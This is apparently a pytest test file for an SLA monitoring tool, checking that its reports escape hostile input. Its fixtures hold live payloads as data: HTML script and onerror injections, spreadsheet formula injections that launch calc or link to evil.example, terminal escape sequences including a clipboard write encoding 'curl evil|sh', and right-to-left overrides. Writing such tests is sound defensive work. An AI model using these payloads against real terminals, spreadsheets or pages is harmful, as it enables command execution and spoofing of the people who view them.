"""Hostile names and messages in every output: inert in terminals, escaped in HTML,
neutralised in CSV, exact (but escaped) in JSON.

Probe ids are restricted by the configuration to [a-z0-9._-], but client
display names are free text and error messages come from servers (or from
imported files), so those carry the payloads here: HTML, spreadsheet formulas,
ANSI escape sequences (CSI, OSC title and clipboard, 8-bit C1), BEL and
right-to-left overrides.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from faultkit import (
    ScriptServer,
    config_text,
    dangerous_chars,
    http_probe,
    raw_reply,
    slaprobe,
    tcp_probe,
)

NAMES = {
    "acme": "<script>alert('x')</script> \x1b[31mACME\x1b[0m \u202egnp.exe",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "bell": "\x07\x1b]0;pwned title\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2J\u2066Bell\u2069 & Co",
}
ERRORS = [
    "status: \x1b[2J\x1b[Hgot 503 \x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "timeout: <img src=x onerror=alert(1)> \u202eSLA met\u202c",
    "=cmd|'/c calc'!A1",
    "reset: \x07\x07\x9b31m bell",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A configuration whose client names are hostile, and a database whose checks
    carry hostile error messages and down stretches (incidents)."""
    d = tmp_path_factory.mktemp("hostile")
    clients = {cid: {"name": name, "sla": "gold"} for cid, name in NAMES.items()}
    probes = [tcp_probe(f"p-{cid}", "127.0.0.1", 9, client=cid) for cid in NAMES]
    cfg = d / "probes.toml"
    cfg.write_text(config_text(probes, slas={"gold": {"objective": 99.9, "credits": [
        {"below": 99.9, "percent": 10}]}}, clients=clients))
    cfg.chmod(0o600)
    lines = []
    for i, cid in enumerate(NAMES):
        for minute in range(60):
            ok = not (10 <= minute < 20)
            error = None if ok else ERRORS[(i + minute) % len(ERRORS)]
            lines.append(json.dumps({"probe": f"p-{cid}",
                                     "ts": f"2026-11-03T10:{minute:02d}:00Z", "ok": ok,
                                     "latency_ms": 12.5, "error": error, "interval_s": 60,
                                     "agent": "\x1b[31magent\u202e"}))
    src = d / "checks.jsonl"
    src.write_text("\n".join(lines) + "\n")
    out = slaprobe("import", "--config", str(cfg), str(src))
    assert out.returncode == 0, out.stderr
    return cfg


def _run(*args: str) -> str:
    out = slaprobe(*args)
    assert out.returncode in (0, 1), out.stderr
    assert b"Traceback" not in out.stderr
    text = out.stdout.decode("utf-8")
    assert not dangerous_chars(text), sorted(dangerous_chars(text))
    return text


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "md", "html"])
def test_report_renders_hostile_names_and_messages_inertly(hostile, fmt):
    text = _run("report", "--config", str(hostile), "--period", "2026-11", "--format", fmt)
    if fmt == "json":
        data = json.loads(text)  # exact values, escaped characters
        assert {c["name"] for c in data["clients"]} == set(NAMES.values())
    elif fmt == "html":
        assert "<script>" not in text and "<img" not in text
        assert "&lt;script&gt;" in text
    elif fmt == "csv":
        rows = list(csv.reader(io.StringIO(text)))
        header = rows[0]
        for row in rows[1:]:
            for name, cell in zip(header, row):
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only numbers may start like a formula
        names = {row[header.index("name")] for row in rows[1:] if row[0] == "client"}
        assert "'" + NAMES["formula"] in names and "'" + NAMES["at"] in names
    elif fmt == "md":
        assert "<script>" not in text


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "md"])
def test_incidents_render_hostile_names_inertly(hostile, fmt):
    text = _run("incidents", "--config", str(hostile), "--period", "2026-11", "--format", fmt)
    if fmt == "json":
        assert len(json.loads(text)) == len(NAMES)


def test_export_of_hostile_messages_is_inert_but_exact(hostile):
    text = _run("export", "--config", str(hostile))
    errors = {json.loads(line)["error"] for line in text.splitlines()} - {None}
    assert errors == set(ERRORS)


def test_status_table_is_inert(hostile):
    _run("status", "--config", str(hostile))


def test_status_json_is_inert(hostile):
    text = _run("status", "--json", "--config", str(hostile))
    assert {r["client_name"] for r in json.loads(text)["probes"]} == set(NAMES.values())


HOSTILE_REPLIES = {
    "reason": b"HTTP/1.1 503 \x1b]0;pwned\x07\x1b[2J\xe2\x80\xaeService\r\n"
              b"Content-Length: 0\r\n\r\n",
    "header": b"HTTP/1.1 500 Oops\r\nX-Evil: \x1b[2J\x07\r\nContent-Length: 4\r\n\r\n\x1b[2J",
    "body": b"HTTP/1.1 200 OK\r\nContent-Length: 18\r\n\r\n\x1b]0;pwned\x07\x1b[2J\x07\x07\x07\x07",
    "redirect": b"HTTP/1.1 302 Found\r\nLocation: http://\x1b[2J.invalid/\r\n"
                b"Content-Length: 0\r\n\r\n",
    "status line": b"\x1b[2J\x1b]0;pwned\x07 HTTP/1.1 200 OK\r\n\r\n",
}


def test_run_once_shows_no_escape_from_a_hostile_server(tmp_path):
    servers = {name: ScriptServer(raw_reply(data)) for name, data in HOSTILE_REPLIES.items()}
    try:
        probes = [http_probe(name.replace(" ", "-"), s.url, body_contains="fine",
                             follow_redirects=True, client="acme")
                  for name, s in servers.items()]
        cfg = tmp_path / "probes.toml"
        cfg.write_text(config_text(probes, clients={"acme": {"name": NAMES["bell"]}}))
        cfg.chmod(0o600)
        out = slaprobe("run", "--once", "--config", str(cfg))
    finally:
        for s in servers.values():
            s.close()
    assert out.returncode == 1 and b"Traceback" not in out.stderr
    text = out.stdout.decode()
    assert not dangerous_chars(text), sorted(dangerous_chars(text))
    assert not dangerous_chars(out.stderr.decode())
    assert text.count("DOWN") == len(HOSTILE_REPLIES)
